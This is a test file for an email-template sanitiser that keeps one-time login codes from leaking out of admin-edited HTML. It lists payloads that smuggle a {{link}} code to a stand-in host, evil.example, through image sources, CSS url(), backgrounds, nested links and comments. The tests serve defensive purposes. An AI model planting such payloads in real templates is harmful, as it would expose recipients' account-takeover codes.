import { and, eq, isNull } from 'drizzle-orm'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { emailOutbox, emailTemplates } from '#db/schema/index'
import { createBrand, createUser } from '#db/factories'
import { inviteAdmin } from '#app/modules/administrator/administrator.server'
import { reviewSavedTemplates } from '#app/modules/email/template-editing.server'
import {
  createSmtpTransport,
  enqueueEmail,
  processOutboxOnce,
  type MailTransport,
} from '#app/modules/email/outbox.server'
import {
  emailHtmlProblems,
  sanitizeEmailHtml,
  savedTemplateProblems,
} from '#app/modules/email/sanitize.server'
import { templateSchema } from '#app/modules/email/schemas'
import {
  codePlaceholders,
  DEFAULT_TEMPLATES,
  escapeHtml,
  ONE_TIME_LINK_KIND,
  renderTemplate,
  TEMPLATE_KEYS,
  type TemplateKey,
} from '#app/modules/email/templates'
import { useTestDatabase } from '#tests/support/database'
import { cookiesFrom, location, send, sessionCookieFor, useTestServer } from '#tests/support/app'
import { captureLogs } from '#tests/support/logs'
import { startSmtpCatcher, type SmtpCatcher } from '#tests/support/smtp-catcher'

/**
 * ADR 026: a placeholder that carries a one-time code ({{link}} of invitations, activation, reset,
 * verification, admin invitations…) may stand only as a link's whole href or as text, and images
 * come only from the portal or inline. Refused at save beside the field; an already-saved wording
 * that breaks it is found at start-up, shown to admins, and made harmless in every message sent.
 */
const db = useTestDatabase()
const server = useTestServer()

const APP = 'http://localhost:3000'
const CODE = 'LIVECODE7f3a9c'
const LINK = `${APP}/verification?mode=activate&code=${CODE}`

/**
 * Where `code` stands in sanitised HTML: "text", "a href (whole)" or the tag and attribute it leaks
 * through. The sanitiser writes every attribute double-quoted with `<`, `>` and `"` escaped, so a
 * position is in a tag exactly when the last `<` before it is not closed yet.
 */
function placesOf(html: string, code = CODE, link = LINK): string[] {
  const places: string[] = []
  for (let i = html.indexOf(code); i >= 0; i = html.indexOf(code, i + 1)) {
    const before = html.slice(0, i)
    if (before.lastIndexOf('>') > before.lastIndexOf('<')) {
      places.push('text')
      continue
    }
    const tag = /<([a-z0-9]+)/i.exec(before.slice(before.lastIndexOf('<')))![1]
    const attribute = /\s([^\s=]+)="([^"]*)$/.exec(before)
    const value = attribute ? attribute[2] + html.slice(i).split('"')[0] : ''
    places.push(
      attribute && tag === 'a' && attribute[1] === 'href' && value === escapeHtml(link)
        ? 'a href (whole)'
        : `${tag} ${attribute?.[1] ?? '(tag)'}`,
    )
  }
  return places
}

const allowed = (places: string[]) => places.filter((p) => p !== 'text' && p !== 'a href (whole)')

/** Ways an admin's HTML could carry the code (or fetch from elsewhere), each with a proper link too. */
const LEAKS: Array<[string, string]> = [
  ['an image address', '<img src="https://evil.example/p.gif?x={{link}}">'],
  ['an image address, spaced', '<img src="https://evil.example/p.gif?x={{ link }}" alt="">'],
  ['a whole image address', '<img src="{{link}}">'],
  ['a style', '<p style="background:url(https://evil.example/?{{link}})">x</p>'],
  ['a srcset', '<img srcset="https://evil.example/a.png?{{link}} 1x">'],
  ['a background', '<table><tr><td background="https://evil.example/?{{link}}">x</td></tr></table>'],
  ['a link inside another address', '<a href="https://evil.example/?{{link}}">Go</a>'],
  ['a link after the portal address', '<a href="{{appUrl}}/x?next={{link}}">Go</a>'],
  ['a title', '<a href="https://ok.example/" title="{{link}}">Go</a>'],
  ['a comment', '<!-- {{link}} -->'],
  ['a style block', '<style>p{background:url(https://evil.example/?{{link}})}</style>'],
]
const PROPER = '<p>Hello {{recipientName}}</p><p><a href="{{link}}">Set your password</a></p>'

describe('which placeholders carry a one-time code', () => {
  test('{{link}} of every e-mail whose link is an action link, from the one table the outbox uses', () => {
    for (const key of TEMPLATE_KEYS)
      expect(codePlaceholders(key), key).toEqual(ONE_TIME_LINK_KIND[key] ? ['link'] : [])
    for (const key of [
      'admin_invite',
      'colleague_invite',
      'activate_account',
      'reset_password',
      'verify_email',
      'setup_admin',
      'reminder',
    ] as const)
      expect(codePlaceholders(key), key).toEqual(['link'])
  })
})

describe('a message rendered from an admin’s HTML', () => {
  const render = (html: string, key: TemplateKey = 'admin_invite') =>
    renderTemplate(
      { subject: 'Welcome', body: 'Set it here: {{link}}', html: PROPER + html },
      { recipientName: 'Ann', link: LINK, appUrl: APP },
      { codePlaceholders: codePlaceholders(key), sanitize: sanitizeEmailHtml },
    )

  test.each(LEAKS)('carries the code only as a whole href or as text, never in %s', (_name, html) => {
    const out = render(html)
    expect(allowed(placesOf(out.html))).toEqual([])
    expect(placesOf(out.html)).toContain('a href (whole)')
    // Nothing is fetched from, or linked to, the other site either.
    expect(out.html).not.toContain('evil.example')
    // The text part is the message's purpose: the code is there, as text.
    expect(out.text).toBe(`Set it here: ${LINK}\n`)
  })

  test('a wording whose only {{link}} leaks gets the HTML made from its text body, so the reader can still act', () => {
    const out = renderTemplate(
      {
        subject: 'S',
        body: 'Hello\n\n{{link}}',
        html: '<p>Hi</p><img src="https://evil.example/?{{link}}">',
      },
      { link: LINK },
      { codePlaceholders: ['link'], sanitize: sanitizeEmailHtml },
    )
    expect(out.html).not.toContain('evil.example')
    expect(allowed(placesOf(out.html))).toEqual([])
    expect(placesOf(out.html)).toContain('a href (whole)')
    expect(out.html).toContain('>Hello</p>')
  })

  test('a one-time code never goes into the subject', () => {
    const out = renderTemplate(
      { subject: 'Your link {{link}}', body: '{{link}}' },
      { link: LINK },
      { codePlaceholders: ['link'] },
    )
    expect(out.subject).toBe('Your link')
    expect(out.text).toContain(CODE)
  })

  test('images only from the portal or inline; everything else is dropped', () => {
    const clean = (html: string) => sanitizeEmailHtml(html, [], { appUrl: APP })
    for (const src of [
      `${APP}/files/5d1c2b7e-0000-4000-8000-000000000000`,
      'data:image/png;base64,iVBORw0KGgo=',
      'cid:logo@panorama',
    ])
      expect(clean(`<img src="${src}" alt="Logo">`), src).toBe(`<img src="${src}" alt="Logo" />`)
    for (const src of [
      'https://evil.example/p.gif',
      'http://localhost:3001/files/x',
      'http://localhost:3000.evil.example/x',
      'http://user@localhost:3000/x',
      '//localhost:3000/x',
      '/files/x',
      'data:image/svg+xml;base64,PHN2Zz4=',
      'data:text/html,<script>',
    ])
      expect(clean(`<img src="${src}" alt="Logo">`), src).toBe('<img alt="Logo" />')
  })
})

describe('the save check', () => {
  test.each(LEAKS)('refuses {{link}} in %s, saying where', (_name, html) => {
    const problems = emailHtmlProblems(PROPER + html, 'admin_invite', APP)
    expect(problems.length, html).toBeGreaterThan(0)
    expect(problems.join(' ')).toMatch(/one-time code|Images may come only from this portal/)
  })

  test('names the attribute, and the foreign site of an image', () => {
    expect(
      emailHtmlProblems(`${PROPER}<img src="https://evil.example/p.gif?x={{link}}">`, 'admin_invite', APP),
    ).toEqual([
      '{{link}} carries the reader’s one-time code, so it may stand only as a link’s whole address (<a href="{{link}}">) or as text. Take it out of <img src>.',
    ])
    expect(
      emailHtmlProblems(`${PROPER}<img src="https://cdn.example/logo.png">`, 'admin_invite', APP),
    ).toEqual([
      'Images may come only from this portal (http://localhost:3000, such as a brand logo) or be inline (data: or cid:). Remove <img src> from cdn.example.',
    ])
    expect(emailHtmlProblems(`${PROPER}<!-- {{link}} -->`, 'admin_invite', APP)[0]).toContain(
      'Take it out of comments and <style> or <script> blocks.',
    )
  })

  test('accepts a whole href, text, portal and inline images', () => {
    for (const html of [
      PROPER,
      '<p>Or paste this address: {{link}}</p><a href=" {{link}} ">Go</a>',
      `<img src="{{appUrl}}/files/5d1c2b7e-0000-4000-8000-000000000000" alt="Logo"><p>{{link}}</p>`,
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt=""><p>{{link}}</p>',
    ])
      expect(emailHtmlProblems(html, 'admin_invite', APP), html).toEqual([])
  })

  test('an e-mail whose link carries no code may use it anywhere a link may go', () => {
    expect(
      emailHtmlProblems('<a href="https://ok.example/?next={{link}}">x</a>', 'response_ready', APP),
    ).toEqual([])
  })

  test('the subject of an e-mail with a one-time code may not carry it', () => {
    const result = templateSchema('colleague_invite').safeParse({
      intent: 'save',
      subject: 'Your link: {{ link }}',
      body: '{{link}}',
      html: '',
    })
    expect(result.success).toBe(false)
    expect(result.error!.issues.map((i) => [i.path[0], i.message])).toEqual([
      [
        'subject',
        'Leave {{link}} out of the subject: it carries the reader’s one-time code, and subjects are shown in notifications and kept in mail logs. Put it in the body.',
      ],
    ])
    expect(
      templateSchema('response_ready').safeParse({
        intent: 'save',
        subject: 'See {{link}}',
        body: '{{link}}',
      }).success,
    ).toBe(true)
  })

  test('the shipped wording of every e-mail passes, and carries its code only as a whole href or text', () => {
    for (const key of TEMPLATE_KEYS) {
      const shipped = DEFAULT_TEMPLATES[key]
      expect(savedTemplateProblems({ ...shipped, html: null }, key, APP), key).toEqual([])
      expect(templateSchema(key).safeParse({ intent: 'save', ...shipped, html: '' }).success, key).toBe(true)
      const out = renderTemplate(shipped, { link: LINK }, { codePlaceholders: codePlaceholders(key) })
      expect(allowed(placesOf(out.html)), key).toEqual([])
      expect(out.subject, key).not.toContain(CODE)
    }
  })
})

describe('the editor refuses on save, beside the field', () => {
  let cookie = ''
  beforeAll(async () => {
    cookie = await sessionCookieFor((await createUser({ role: 'admin' })).id)
  })
  const form = (overrides: Record<string, string>) => ({
    intent: 'save',
    subject: 'You are invited to {{brandName}}',
    body: 'Hello {{recipientName}},\n\n{{link}}',
    html: '',
    ...overrides,
  })
  const decode = (html: string) =>
    html
      .replace(/<!-- -->/g, '')
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&#x27;|&#39;/g, "'")

  test.each(['admin_invite', 'colleague_invite'] as const)(
    '%s: the image trick is a 400 beside the HTML body',
    async (key) => {
      const brand = await createBrand()
      const path = `/admin/email-management/${key}.${brand.id}`
      const response = await send(server, path, {
        cookie,
        form: form({
          html: '<p>Hi</p><a href="{{link}}">Go</a><img src="https://evil.example/p.gif?x={{link}}">',
        }),
      })
      expect(response.status).toBe(400)
      const page = decode(await response.text())
      expect(page).toMatch(
        /<ul id="template-form-html-error"[^>]*><li>\{\{link\}\} carries the reader’s one-time code, so it may stand only as a link’s whole address \(<a href="\{\{link\}\}">\) or as text\. Take it out of <img src>\.<\/li>/,
      )
      const rows = await db()
        .select()
        .from(emailTemplates)
        .where(and(eq(emailTemplates.key, key), eq(emailTemplates.brandId, brand.id)))
      expect(rows).toEqual([])
    },
  )

  test('a foreign image is a 400 beside the HTML body; the subject rule beside the subject', async () => {
    const path = '/admin/email-management/reset_password'
    const image = await send(server, path, {
      cookie,
      form: form({ html: '<p><a href="{{link}}">Reset</a></p><img src="https://tracker.example/open.gif">' }),
    })
    expect(image.status).toBe(400)
    expect(decode(await image.text())).toMatch(
      /<ul id="template-form-html-error"[^>]*><li>Images may come only from this portal \(http:\/\/localhost:3000, such as a brand logo\) or be inline \(data: or cid:\)\. Remove <img src> from tracker\.example\.<\/li>/,
    )
    const subject = await send(server, path, { cookie, form: form({ subject: 'Reset: {{link}}' }) })
    expect(subject.status).toBe(400)
    expect(decode(await subject.text())).toMatch(
      /<ul id="template-form-subject-error"[^>]*><li>Leave \{\{link\}\} out of the subject/,
    )
    const [row] = await db()
      .select()
      .from(emailTemplates)
      .where(and(eq(emailTemplates.key, 'reset_password'), isNull(emailTemplates.brandId)))
    expect(row).toMatchObject({ subject: DEFAULT_TEMPLATES.reset_password.subject, htmlBody: null })
  })

  test('a portal image and a whole href are saved', async () => {
    const brand = await createBrand()
    const path = `/admin/email-management/admin_invite.${brand.id}`
    const html = `<p><img src="${APP}/files/5d1c2b7e-0000-4000-8000-000000000000" alt="Logo" /></p><p><a href="{{link}}">Set your password</a></p>`
    const response = await send(server, path, { cookie, form: form({ html }) })
    expect(response.status).toBe(302)
    expect(location(response)).toBe(path)
    await send(server, location(response)!, { cookie: cookiesFrom(response, cookie) })
    const [row] = await db()
      .select()
      .from(emailTemplates)
      .where(and(eq(emailTemplates.key, 'admin_invite'), eq(emailTemplates.brandId, brand.id)))
    expect(row).toMatchObject({ htmlBody: html, needsAttention: null })
  })
})

describe('a wording saved before the rule', () => {
  let catcher: SmtpCatcher
  let transport: MailTransport
  let admin = { id: '', displayName: '' }
  const BAD_HTML =
    '<p>Welcome {{recipientName}}</p><a href="{{link}}">Set your password</a><img src="https://evil.example/p.gif?x={{link}}" alt="">'

  beforeAll(async () => {
    catcher = await startSmtpCatcher()
    transport = createSmtpTransport(catcher.url)
    admin = await createUser({ role: 'admin' })
  })
  afterAll(async () => {
    transport?.close?.()
    await catcher?.close()
  })
  beforeEach(async () => {
    // The default wording of the administrator invitation, saved before the rule arrived.
    await db()
      .update(emailTemplates)
      .set({ htmlBody: BAD_HTML, subject: 'Invitation {{link}}' })
      .where(and(eq(emailTemplates.key, 'admin_invite'), isNull(emailTemplates.brandId)))
  })

  test('a real administrator invitation carries its live code only as a whole href and text, over SMTP too', async () => {
    const email = `new-admin-${Date.now()}@example.com`
    const outcome = await inviteAdmin({ id: admin.id, name: admin.displayName }, { name: 'New Admin', email })
    expect(outcome.ok).toBe(true)
    const [row] = await db().select().from(emailOutbox).where(eq(emailOutbox.recipient, email))
    const code = /[?&]code=([^\s&]+)/.exec(row!.text)![1]!
    const link = /https?:\/\/\S*[?&]code=\S+/.exec(row!.text)![0]
    expect(code.length).toBeGreaterThan(10)
    expect(allowed(placesOf(row!.html, code, link))).toEqual([])
    expect(placesOf(row!.html, code, link)).toContain('a href (whole)')
    expect(row!.html).not.toContain('evil.example')
    expect(row!.subject).toBe('Invitation')

    expect(await processOutboxOnce({ transport })).toMatchObject({ sent: 1 })
    const delivered = await catcher.waitFor((m) => m.envelopeTo.includes(email))
    expect(allowed(placesOf(delivered.html, code, link))).toEqual([])
    expect(placesOf(delivered.html, code, link)).toContain('a href (whole)')
    // No <img> at all may hold it, and nothing may be fetched from the other site.
    for (const img of delivered.html.match(/<img\b[^>]*>/g) ?? []) expect(img).not.toContain(code)
    expect(delivered.html).not.toContain('evil.example')
    expect(delivered.subject).not.toContain(code)
    expect(delivered.text).toContain(link)
  })

  test('a colleague invitation rendered from a brand’s bad wording leaks nothing either; the send warns once by key and brand', async () => {
    const brand = await createBrand()
    await db().insert(emailTemplates).values({
      key: 'colleague_invite',
      brandId: brand.id,
      subject: '{{employeeName}} asks',
      body: 'Hi\n\n{{link}}',
      htmlBody:
        '<p style="background:url(https://evil.example/?{{link}})">Hi</p><a href="https://evil.example/?c={{link}}">Go</a>',
    })
    const logs = captureLogs()
    try {
      const { id } = await enqueueEmail(db(), {
        to: `colleague-${Date.now()}@example.com`,
        template: 'colleague_invite',
        brandId: brand.id,
        values: { link: LINK, employeeName: 'Sam' },
      })
      const [row] = await db().select().from(emailOutbox).where(eq(emailOutbox.id, id))
      expect(allowed(placesOf(row!.html))).toEqual([])
      // Its only {{link}} leaked, so the HTML part is the one made from the text body: a working button.
      expect(placesOf(row!.html)).toContain('a href (whole)')
      expect(row!.html).not.toContain('evil.example')
    } finally {
      logs.stop()
    }
    const warned = logs.lines.filter((l) => l.msg.startsWith('email template needs attention'))
    expect(warned).toHaveLength(1)
    expect(warned[0]).toMatchObject({
      level: 'warn',
      template: 'colleague_invite',
      brandId: brand.id,
      wording: 'brand',
    })
    expect(JSON.stringify(warned[0])).not.toMatch(/evil|LIVECODE|background/)
  })

  test('the start-up review finds it, logs key and brand only, and the admin sees it in the list and the editor', async () => {
    const brand = await createBrand({ name: `Attention Brand ${Date.now()}` })
    await db().insert(emailTemplates).values({
      key: 'reset_password',
      brandId: brand.id,
      subject: 'Reset',
      body: '{{link}}',
      htmlBody: '<a href="{{link}}">Reset</a><img src="https://cdn.example/logo.png">',
    })
    const logs = captureLogs()
    let flagged: Awaited<ReturnType<typeof reviewSavedTemplates>>
    try {
      flagged = await reviewSavedTemplates()
    } finally {
      logs.stop()
    }
    expect(flagged).toEqual(
      expect.arrayContaining([
        { key: 'admin_invite', brandId: null },
        { key: 'reset_password', brandId: brand.id },
      ]),
    )
    const warned = logs.lines.filter((l) => l.msg.startsWith('email template needs attention'))
    expect(warned.map((l) => [l.level, l.template, l.brandId])).toEqual(
      expect.arrayContaining([
        ['warn', 'admin_invite', null],
        ['warn', 'reset_password', brand.id],
      ]),
    )
    expect(JSON.stringify(warned)).not.toMatch(/evil|cdn\.example|Invitation|<img/)

    const cookie = await sessionCookieFor(admin.id)
    const list = await (await send(server, `/admin/email-management?brand=${brand.id}`, { cookie })).text()
    const text = list
      .replace(/<!-- -->/g, '')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
    // The default administrator invitation (subject and HTML), and this brand's reset (an image).
    expect(text).toContain('Needs attention:</span>Leave {{link}} out of the subject')
    expect(text).toContain('{{link}} carries the reader’s one-time code, so it may stand only')
    expect(text).toContain('Needs attention:</span>Images may come only from this portal')
    const defaults = await (await send(server, '/admin/email-management', { cookie })).text()
    expect(defaults).toContain('Needs attention:')
    expect(defaults).toMatch(/1 of them breaks the rules for one-time codes and images/)

    const editor = (
      await (await send(server, '/admin/email-management/admin_invite', { cookie })).text()
    ).replace(/<!-- -->/g, '')
    expect(editor).toContain('This wording needs attention')
    expect(editor).toContain('Leave {{link}} out of the subject')

    // Fixed by saving (or restoring): cleared at once, and the next review agrees.
    await db()
      .update(emailTemplates)
      .set({ htmlBody: null, subject: DEFAULT_TEMPLATES.admin_invite.subject })
      .where(and(eq(emailTemplates.key, 'admin_invite'), isNull(emailTemplates.brandId)))
    await db().delete(emailTemplates).where(eq(emailTemplates.brandId, brand.id))
    const after = await reviewSavedTemplates()
    expect(after).not.toContainEqual({ key: 'admin_invite', brandId: null })
    expect(after.filter((f) => f.brandId === brand.id)).toEqual([])
    const [fixed] = await db()
      .select()
      .from(emailTemplates)
      .where(and(eq(emailTemplates.key, 'admin_invite'), isNull(emailTemplates.brandId)))
    expect(fixed!.needsAttention).toBeNull()
  })
})
